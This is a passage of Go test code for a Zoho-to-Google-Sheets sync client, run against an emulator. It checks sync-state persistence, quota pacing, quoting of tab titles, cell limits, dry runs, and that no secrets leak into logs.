					{"3", "Corp", "30", "keep me", "deleted in Zoho"}, {"2", "Beta", "20", "", "deleted in Zoho"}, {"1", "Acme", "11"}})
				// Record 2 comes back: unmarked.
				back := setup(tbl(rec("1", "Acme", 11), rec("2", "Beta", 21)))
				e.upsert(t, back)
				e.want(t, [][]string{{"Id", "Name", "Amount", "Notes", "Deleted"},
					{"3", "Corp", "30", "keep me", "deleted in Zoho"}, {"2", "Beta", "21"}, {"1", "Acme", "11"}})
			}
			// Nothing more to do.
			if r := e.upsert(t, full); r.Requests != 0 && od != zsync.OnDeleteMark {
				t.Errorf("rerun wrote: %+v", r)
			}
		})
	}
}

// Sync state round-trips through developer metadata, is updated in place,
// and saving the same state again writes nothing.
func TestEmulatorStateRoundTrip(t *testing.T) {
	both(t, func(t *testing.T, o envOpt) {
		e := newEnv(t, o)
		ctx := context.Background()
		got, err := e.ss.LoadState(ctx)
		if err != nil || len(got) != 0 {
			t.Fatalf("empty spreadsheet: %v %v", got, err)
		}
		at := time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC)
		leads := zsync.ModuleState{Module: "Leads", Sheet: "Leads", SheetID: 0, SheetTitle: "Leads (EU)", Fingerprint: "v1 c0=1", Cursor: at, LastFull: at.Add(-time.Hour), LastRun: at, LastStatus: "ok", Rows: 1234}
		deals := zsync.ModuleState{Module: "Deals", Sheet: "Deals", Cursor: at.Add(time.Minute), LastRun: at, LastStatus: "error", LastError: "HTTP 500", Rows: 7}
		for _, st := range []zsync.ModuleState{leads, deals} {
			if err := e.ss.SaveState(ctx, st); err != nil {
				t.Fatal(err)
			}
		}
		leads.Cursor = at.Add(time.Hour)
		leads.Rows++
		if err := e.ss.SaveState(ctx, leads); err != nil {
			t.Fatal(err)
		}
		got, err = e.ss.LoadState(ctx)
		if err != nil {
			t.Fatal(err)
		}
		want := map[string]zsync.ModuleState{"Leads": leads, "Deals": deals}
		if d := cmp.Diff(want, got); d != "" {
			t.Errorf("state (-want +got):\n%s", d)
		}
		n := 0
		for _, m := range e.srv.Metadata(e.id) {
			if strings.HasPrefix(m.Key, sheets.TabStateKeyPrefix) {
				n++
				if m.LocationType != "SPREADSHEET" || m.Visibility != "DOCUMENT" {
					t.Errorf("state metadata %+v", m)
				}
			}
		}
		if n != 2 {
			t.Errorf("%d state entries, want 2: %+v", n, e.srv.Metadata(e.id))
		}
		before := e.srv.Stats().Writes
		if err := e.ss.SaveState(ctx, leads); err != nil {
			t.Fatal(err)
		}
		if w := e.srv.Stats().Writes; w != before {
			t.Errorf("saving the same state wrote %d requests", w-before)
		}
		// A create whose answer is lost is checked, not repeated blindly.
		e.srv.InjectFault(sheetstest.Fault{Path: e.id + ":batchUpdate", Status: 500, AfterApply: true})
		contacts := zsync.ModuleState{Module: "Contacts", Sheet: "Contacts", Cursor: at, LastStatus: "ok"}
		if err := e.ss.SaveState(ctx, contacts); err != nil {
			t.Fatal(err)
		}
		if err := e.ss.CheckWritable(ctx); err != nil {
			t.Fatal(err)
		}
		if n := len(e.srv.Metadata(e.id)); n != 3 {
			t.Errorf("%d metadata entries, want 3: %+v", n, e.srv.Metadata(e.id))
		}
		// Opening the spreadsheet again (as the next run does) reads the same state.
		other, err := e.client.Open(ctx, e.id, "")
		if err != nil {
			t.Fatal(err)
		}
		got, err = other.LoadState(ctx)
		if err != nil {
			t.Fatal(err)
		}
		want["Contacts"] = contacts
		if d := cmp.Diff(want, got); d != "" {
			t.Errorf("state (-want +got):\n%s", d)
		}
	})
}

// With the default pacing, a long stream of reads and writes never meets
// Google's 60 reads and 60 writes per minute: no 429 at all, no minute
// over the quota, and no waiting before the quota is used. The client's
// and the emulator's clocks are one fake clock that the client's sleeps
// advance.
func TestEmulatorDefaultPacingRespectsQuotas(t *testing.T) {
	e := newEnv(t, envOpt{noListener: true, googleQuota: true, clockNow: true})
	ctx := context.Background()
	const runs = 150
	start := e.clock.Now()
	var reads, writes []time.Time
	e.srv.OnRequest(func(r *http.Request) {
		if r.Method == http.MethodGet || strings.HasSuffix(r.URL.Path, ":search") {
			reads = append(reads, e.clock.Now())
		} else {
			writes = append(writes, e.clock.Now())
		}
	})
	firstWait, before := -1, 0
	for i := range runs {
		// Idle now and then: the window empties.
		if i%100 == 0 {
			_ = e.clock.Sleep(ctx, 5*time.Minute)
		}
		n, was := len(e.clock.Slept()), max(len(reads), len(writes))
		if i%2 == 0 {
			e.upsert(t, tbl(rec("1", "Acme", float64(i))))
		} else if err := e.ss.SaveState(ctx, zsync.ModuleState{Module: "Leads", Sheet: "Leads", Rows: i}); err != nil {
			t.Fatal(err)
		}
		if firstWait < 0 && len(e.clock.Slept()) > n {
			firstWait, before = i, was
		}
	}
	st := e.srv.Stats()
	if st.QuotaExceeded != 0 || st.Statuses[429] != 0 {
		t.Errorf("%d requests over the quota (%d reads, %d writes in %s)", st.QuotaExceeded, st.Reads, st.Writes, e.clock.Now().Sub(start))
	}
	if st.Writes < runs {
		t.Errorf("only %d writes", st.Writes)
	}
	t.Logf("first wait at step %d after %d requests of one kind", firstWait, before)
	// The first wait comes only once a minute's quota is (nearly) used up:
	// one step makes a few requests.
	if firstWait < 0 || before < sheets.DefaultWriteQuota-5 {
		t.Errorf("the client first waited at step %d after %d reads or writes: want a wait, and not before the quota was used", firstWait, before)
	}
	// No sliding minute holds more than the pacing's quota either.
	for name, stamps := range map[string][]time.Time{"reads": reads, "writes": writes} {
		sort.Slice(stamps, func(i, j int) bool { return stamps[i].Before(stamps[j]) })
		for i := range stamps {
			j := sort.Search(len(stamps), func(j int) bool { return !stamps[j].Before(stamps[i].Add(time.Minute)) })
			if j-i > sheets.DefaultWriteQuota {
				t.Fatalf("%d %s within a minute from %s", j-i, name, stamps[i].Sub(start))
			}
		}
	}
}

// Tab titles that look like cells or hold apostrophes are quoted.
func TestEmulatorAwkwardTitles(t *testing.T) {
	e := newEnv(t, envOpt{noListener: true})
	for _, title := range []string{"Q1", "CRM26", "Jon's Data", "My Leads", "A1"} {
		tb := tbl(rec("1", "Acme", 10))
		tb.Sheet = title
		e.upsert(t, tb)
		tb.Rows = append(tb.Rows, rec("2", "Beta", 20))
		e.upsert(t, tb)
		if got := len(e.srv.Values(e.id, title)); got != 3 {
			t.Errorf("%q: %d rows\n%s", title, got, e.srv.Table(e.id, title))
		}
	}
	if got := e.srv.Values(e.id, "Sheet1"); len(got) != 0 {
		t.Errorf("Sheet1 written: %v", got)
	}
}

// Text over Google's 50,000 characters per cell is cut, not rejected.
func TestEmulatorLongTextTruncated(t *testing.T) {
	e := newEnv(t, envOpt{noListener: true})
	long := strings.Repeat("ü", sheets.MaxCellChars+10)
	e.upsert(t, tbl(zsync.Row{Key: "1", Cells: []zsync.Cell{{}, zsync.Text(long), zsync.Number(1)}}))
	got, _ := e.srv.Cell(e.id, "Leads", 1, 1).Value.(string)
	if n := len([]rune(got)); n != sheets.MaxCellChars || !strings.HasSuffix(got, sheets.TruncatedMarker) {
		t.Errorf("stored %d characters", n)
	}
	if res := e.upsert(t, tbl(zsync.Row{Key: "1", Cells: []zsync.Cell{{}, zsync.Text(long), zsync.Number(1)}})); res.Requests != 0 {
		t.Errorf("rerun wrote %+v", res)
	}
}

// lockedBuffer is a log sink safe for the emulator's and client's goroutines.
type lockedBuffer struct {
	mu gosync.Mutex
	b  strings.Builder
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// Neither the key nor the access token shows up in the client's logs or
// errors, even when calls fail, are retried and end in errors.
func TestEmulatorNoSecretsInLogsOrErrors(t *testing.T) {
	var logs lockedBuffer
	e := newEnv(t, envOpt{opts: []sheets.Option{sheets.WithLogger(zerolog.New(&logs)), sheets.WithMaxRetries(1)}})
	key := string(e.srv.NewServiceAccount(saEmail))
	var bearer atomic.Value
	e.srv.OnRequest(func(r *http.Request) {
		if tok, ok := strings.CutPrefix(r.Header.Get("Authorization"), "Bearer "); ok {
			bearer.Store(tok)
		}
	})
	e.srv.InjectFault(sheetstest.Fault{Path: "values:batchUpdate", Status: 503})
	e.srv.InjectFault(sheetstest.Fault{Path: "values:batchUpdate", Drop: true, Times: 5})
	_, err1 := e.ss.Upsert(context.Background(), tbl(rec("1", "Acme", 1)), zsync.UpsertOptions{})
	e.srv.Unshare(e.id, saEmail)
	_, err2 := e.client.Open(context.Background(), e.id, "")
	if err1 == nil || err2 == nil {
		t.Fatalf("want errors, got %v, %v", err1, err2)
	}
	all := logs.String() + err1.Error() + err2.Error()
	tok, _ := bearer.Load().(string)
	if !strings.Contains(logs.String(), "retrying") {
		t.Errorf("no retry logged: %s", logs.String())
	}
	var kf struct {
		PrivateKey string `json:"private_key"`
	}
	_ = json.Unmarshal([]byte(key), &kf)
	for _, secret := range []string{tok, kf.PrivateKey, "PRIVATE KEY"} {
		if secret == "" || strings.Contains(all, secret) {
			t.Errorf("secret %.12q… found in logs or errors", secret)
		}
	}
}

// The spreadsheet's first tab has sheetId 0, which the JSON encoding drops
// unless forced: growing it, freezing its header and formatting its dates
// must still address sheet 0.
func TestEmulatorFirstTabSheetIDZero(t *testing.T) {
	e := newEnv(t, envOpt{noListener: true})
	dcols := []zsync.Column{{Header: "Id"}, {Header: "Day", Kind: zsync.KindDate}}
	// The first run into an existing (empty) tab reads every record.
	tb := &zsync.Table{Sheet: "Sheet1", Columns: dcols, Full: true}
	for i := range 1200 { // more than the tab's 1000 rows
		id := fmt.Sprint(i + 1)
		tb.Rows = append(tb.Rows, zsync.Row{Key: id, Cells: []zsync.Cell{zsync.Text(id), zsync.DateCell(zsync.Date{Year: 2024, Month: 2, Day: 1 + i%28})}})
	}
	e.upsert(t, tb)
	sh := e.sheet(t, "Sheet1")
	if sh.ID != 0 || sh.Rows < 1201 || sh.FrozenRows != 1 {
		t.Errorf("Sheet1: %+v", sh)
	}
	for _, r := range []int{1, 999, 1000, 1200} {
		if c := e.srv.Cell(e.id, "Sheet1", r, 1); !c.IsDate() {
			t.Errorf("row %d: %+v", r, c)
		}
	}
	if got := len(e.srv.Values(e.id, "Sheet1")); got != 1201 {
		t.Errorf("%d rows", got)
	}
}

// A write that would take the spreadsheet over Google's 10,000,000 cells
// is refused before anything is sent, with an error that says what to do.
func TestEmulatorCellLimit(t *testing.T) {
	e := newEnv(t, envOpt{noListener: true})
	e.srv.InsertRows(e.id, "Sheet1", 1000, 383_000) // 384,000 × 26 = 9,984,000 cells
	small := tbl(rec("1", "Acme", 1))
	e.upsert(t, small) // a 3 × 2 tab fits
	big := tbl()
	for i := range 6000 {
		big.Rows = append(big.Rows, rec(fmt.Sprint(i+1), "x", 1))
	}
	before := e.srv.Stats().Writes
	_, err := e.ss.Upsert(context.Background(), big, zsync.UpsertOptions{})
	var he zsync.HintError
	if err == nil || !errors.As(err, &he) || !strings.Contains(err.Error(), "10000000") || he.Hint() == "" {
		t.Fatalf("got %v", err)
	}
	if w := e.srv.Stats().Writes; w != before {
		t.Errorf("%d writes sent", w-before)
	}
}

// A dry run reports what would change and writes nothing, also on a tab
// that does not exist yet; tabs are upserted concurrently.
func TestEmulatorDryRunAndConcurrentTabs(t *testing.T) {
	both(t, func(t *testing.T, o envOpt) {
		e := newEnv(t, o)
		ctx := context.Background()
		res, err := e.ss.Upsert(ctx, wide(5, 0, 1), zsync.UpsertOptions{DryRun: true})
		if err != nil || res.Added != 5 || res.Requests != 0 {
			t.Fatalf("%+v %v", res, err)
		}
		if st := e.srv.Stats(); st.Writes != 0 {
			t.Errorf("dry run wrote %d requests", st.Writes)
		}
		var wg gosync.WaitGroup
		errs := make([]error, 4)
		for i := range errs {
			wg.Add(1)
			go func() {
				defer wg.Done()
				tb := wide(20, i, 1)
				tb.Sheet = fmt.Sprintf("Tab %d", i%2) // two upserts per tab
				_, errs[i] = e.ss.Upsert(ctx, tb, zsync.UpsertOptions{})
			}()
		}
		wg.Wait()
		for _, err := range errs {
			if err != nil {
				t.Fatal(err)
			}
		}
		for i := range 2 {
			tab := fmt.Sprintf("Tab %d", i)
			if got := len(e.srv.Values(e.id, tab)); got != 21 {
				t.Errorf("%s: %d rows\n%s", tab, got, e.srv.Table(e.id, tab))
			}
		}
		before := e.srv.Stats().Writes
		tb := wide(5, 1, 1)
		tb.Sheet = "Tab 0"
		res, err = e.ss.Upsert(ctx, tb, zsync.UpsertOptions{DryRun: true})
		if err != nil || res.Requests != 0 || res.Added+res.Updated+res.Unchanged != 5 {
			t.Errorf("%+v %v", res, err)
		}
		if w := e.srv.Stats().Writes; w != before {
			t.Errorf("dry run wrote %d requests", w-before)
		}
	})
}
